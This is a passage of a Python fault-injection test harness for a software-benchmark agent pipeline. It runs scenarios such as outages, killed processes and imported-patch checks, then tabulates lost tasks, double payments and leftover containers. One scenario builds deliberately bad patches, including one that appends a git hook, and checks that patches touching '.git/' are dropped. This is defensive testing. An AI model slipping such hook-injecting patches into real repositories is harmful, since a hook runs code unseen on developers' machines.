    run named as its own source."""
    scripted_config(work, SCRIPT, juniors={"k": 0})
    source = RunLayout(work / "runs" / "src")
    source.root.mkdir(parents=True, exist_ok=True)
    bad_costs = [float("nan"), -1.0, True]
    source.predictions.write_text("".join(json.dumps({"instance_id": task.instance_id, "model_patch": task.patch,
                                                      "cost": {"total": bad_costs[n % 3]}}) + "\n"
                                          for n, task in enumerate(tasks)))
    stale = [task.patch.replace("\n ", "\n #", 1) for task in tasks]  # a context line the base does not have
    bad = [tasks[n].patch + GIT_HOOK if n % 3 == 0 else BINARY_PATCH if n % 3 == 1 else stale[n]
           for n in range(len(tasks))]
    (work / "bad.json").write_text(json.dumps([{"instance_id": task.instance_id, "patch": patch, "prefix": "bad"}
                                               for task, patch in zip(tasks, bad, strict=True)]))
    ids, run_id = ",".join(t.instance_id for t in tasks), "import-checks"
    source_before = _digests(source.root)

    def run(*sources: str) -> subprocess.CompletedProcess:
        command = [sys.executable, "-m", "pipeline.cli", "run", "--instance-ids", ids, "--config", "config.yaml",
                   "--run-id", run_id, *(part for name in sources for part in ("--juniors-from", name))]
        return subprocess.run(command, cwd=work, env=bench_env(), capture_output=True, text=True)

    first = run("src", "bad.json")
    layout = RunLayout(work / "runs" / run_id)
    run_before = _files(layout.root)
    itself = run("src", "bad.json", run_id)
    refused = itself.returncode != 0 and f"--juniors-from {run_id}: is this run itself" in itself.stdout + itself.stderr
    row = measure("import-checks", layout, tasks, run_id)
    for task in tasks:
        for record_path in layout.task(task.instance_id).junior_files.rollouts().values():
            cost = json.loads(record_path.read_text()).get("imported_cost")
            row.faults_as_results += cost is not None and not (type(cost) in (int, float) and 0 <= cost < float("inf"))
        pool = _read(layout.task(task.instance_id).junior_files.pool) or {}
        for candidate in pool.get("candidates") or []:  # rollout 1 of each task is bad.json's
            patch = candidate.get("patch") or ""
            row.faults_as_results += 1 in (candidate.get("rollouts") or []) or ".git/" in patch or "GIT binary" in patch
    row.faults_as_results += not refused
    row.foreign_touched = sum(1 for name, digest in source_before.items() if _digests(source.root).get(name) != digest)
    after = _files(layout.root)
    row.foreign_touched += sum(1 for name, size in run_before.items() if after.get(name, -1) != size)
    left = sum(1 for t in tasks for r in (layout.task(t.instance_id).junior_files.rollouts().values())
               if json.loads(r.read_text()).get("patch_dropped"))
    row.notes = (f"first session exit {first.returncode}; {left} imported patch(es) left out of the pools; the run as "
                 f"its own source refused: {refused} (exit {itself.returncode})")
    return row


def _replaced_by_design(name: str, after: dict[str, int]) -> bool:
    """A file the run itself retires as it goes: a rollout's trajectory once its record holds it, a reply journal
    once the trajectory holds the reply."""
    path = Path(name)
    rollout = rollout_file(path.name)
    if rollout is not None and rollout[1]:
        return JuniorFiles(path.parent).rollout(rollout[0]).as_posix() in after
    return path.suffix == reply_journal(path).suffix or path.name == PrincipalFiles(path.parent).reply_journal.name


def _rows_missing(paths) -> int:
    """Replies a rollout record holds beyond the ledger's answered rows for it: rows someone deleted."""
    rows = Ledger.read(paths.ledger)
    missing = 0
    for record_path in paths.junior_files.rollouts().values():
        answered = sum(1 for r in rows if r.agent == record_path.stem and r.error is None)
        missing += max(0, json.loads(record_path.read_text()).get("steps", 0) - answered)
    return missing


def _files(root: Path) -> dict[str, int]:
    sys.path.insert(0, str(ROOT / "tests"))
    from leftovers import lasting_files  # what the run itself does not rewrite or remove as it goes

    return lasting_files(root)


def _read(path: Path) -> dict | None:
    try:
        return json.loads(path.read_text())
    except (OSError, ValueError):
        return None


def measure(name: str, layout: RunLayout, tasks: list, run_id: str) -> Row:
    finished = finished_predictions(layout.predictions)
    rows = {t.instance_id: Ledger.read(layout.task(t.instance_id).ledger) for t in tasks}
    all_rows = [row for task_rows in rows.values() for row in task_rows]
    return Row(name, len(tasks), len(finished), sum(1 for t in tasks if t.instance_id not in finished),
               sum(_paid_twice(layout.task(t.instance_id), rows[t.instance_id]) for t in tasks),
               sum(_faults_as_results(layout, t.instance_id, finished.get(t.instance_id)) for t in tasks),
               max((sum(r.cost for r in task_rows) - PER_TASK for task_rows in rows.values()), default=0.0),
               sum(r.cost for r in all_rows) - PER_RUN, len(containers_left(run_id)))


SCENARIOS = {
    "sessions": sessions,
    "outage-10s": lambda work, tasks: outage(work, tasks, 10, "outage-10s"),
    "outage-60s": lambda work, tasks: outage(work, tasks, 60, "outage-60s"),
    "outage-10min": lambda work, tasks: outage(work, tasks, 600, "outage-10min"),
    "server-killed": server_killed,
    "docker-scoring": docker_scoring,
    "dockerd-killed": dockerd_restarted,
    "budget-killed": budget_actor_killed,
    "second-run": second_run_cleanup,
    "journal-fails": journal_fails,
    "driver-killed": driver_killed,
    "queue-killed": queue_killed,
    "replay-checks": replay_checks,
    "import-checks": import_checks,
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--tasks", type=int, default=3)
    parser.add_argument("--only", default=",".join(SCENARIOS), help="scenarios to run, comma-separated")
    parser.add_argument("--keep", type=Path, help="keep the runs here instead of a temporary folder")
    args = parser.parse_args()
    chosen = [name.strip() for name in args.only.split(",") if name.strip()]
    unknown = [name for name in chosen if name not in SCENARIOS]
    if unknown:
        parser.error(f"unknown scenario(s) {', '.join(unknown)}; choose from {', '.join(SCENARIOS)}")
    tasks = [t for t in load_tasks("bundled") if t.repo_language == "python"][:args.tasks]
    root = args.keep or Path(tempfile.mkdtemp(prefix="swepipe-faults-"))
    results = []
    for name in chosen:
        work = root / name
        work.mkdir(parents=True, exist_ok=True)
        started = time.monotonic()
        results.append(SCENARIOS[name](work, tasks))
        print(f"{name}: done in {time.monotonic() - started:.0f} s ({work})", flush=True)
    print(f"\nruns under {root}")
    print(f"{'scenario':<14} {'tasks':>5} {'finished':>8} {'lost':>4} {'paid twice':>10} {'faults as results':>17} "
          f"{'$ over task':>11} {'$ over run':>10} {'containers left':>15} {'other run touched':>17}")
    for row in results:
        print(f"{row.scenario:<14} {row.tasks:>5} {row.finished:>8} {row.lost:>4} {row.paid_twice:>10} "
              f"{row.faults_as_results:>17} {max(0.0, row.over_task):>11.6f} {max(0.0, row.over_run):>10.6f} "
              f"{row.containers_left:>15} {row.foreign_touched:>17}")
    for row in results:
        if row.notes:
            print(f"  {row.scenario}: {row.notes}")
    if not all(row.clean for row in results):
        print("\nFAILED: a must-be-0 column is not 0")
        sys.exit(1)


def _faults_as_results(layout: RunLayout, instance_id: str, prediction: dict | None) -> int:
    """Records that hold an infrastructure fault as if it were an answer: a rollout ended model_error by a
    provider fault, a finished prediction whose error is infrastructure, a verdict that is an infra_error."""
    paths, count = layout.task(instance_id), 0
    for record_path in paths.junior_files.rollouts().values():
        record = json.loads(record_path.read_text())
        if record.get("exit_reason") in ("model_error", "runtime_error") and any(
                kind in (record.get("error") or "") for kind in INFRA_ERRORS):
            count += 1
    if prediction is not None and any(kind in (prediction.get("error") or "") for kind in INFRA_ERRORS):
        count += 1
    result = paths.eval_files.result
    if result.exists() and json.loads(result.read_text()).get("category") == "infra_error":
        count += 1
    return count


INFRA_ERRORS = ("RateLimitError", "Timeout", "InternalServerError", "APIConnectionError", "ServiceUnavailable",
                "ModelUnavailable", "RuntimeUnavailable", "ClusterFault", "Connection error", "StorageFault",
                "No space left on device", "Input/output error")


def _format_errors(paths) -> int:
    """Replies that held no usable action or brief or edits: juniors', the senior's, the principal's."""
    count = 0
    for record_path in paths.junior_files.rollouts().values():
        steps = (json.loads(record_path.read_text()).get("trajectory") or {}).get("steps", [])
        count += sum(1 for step in steps if step.get("format_error"))
    senior = paths.senior_files.trajectory
    if senior.exists():
        count += sum(1 for step in json.loads(senior.read_text()).get("steps", []) if step.get("format_error"))
    principal = paths.principal_files.result
    if principal.exists():
        count += len(json.loads(principal.read_text()).get("failed_attempts", []))
    return count


def _paid_twice(paths, rows) -> int:
    """Conversation positions paid for more than once: paid replies beyond what the records hold."""
    extra = 0
    for record_path in paths.junior_files.rollouts().values():
        record = json.loads(record_path.read_text())
        agent = record_path.stem
        paid = sum(1 for r in rows if r.agent == agent and r.error is None)
        extra += max(0, paid - record.get("steps", 0))
    recorded = {"senior": paths.senior_files.trajectory, "principal": paths.principal_files.replies}
    for stage, path in recorded.items():
        if path.exists():
            saved = json.loads(path.read_text())
            held = len(saved.get("steps", [])) if isinstance(saved, dict) else len(saved)
            paid = sum(1 for r in rows if r.stage == stage and r.error is None)
            extra += max(0, paid - held)
    return extra


def containers_left(run_id: str) -> list:
    return containers.client().containers.list(all=True, filters={"label": f"{containers.RUN_LABEL}={run_id}"})


if __name__ == "__main__":
    main()
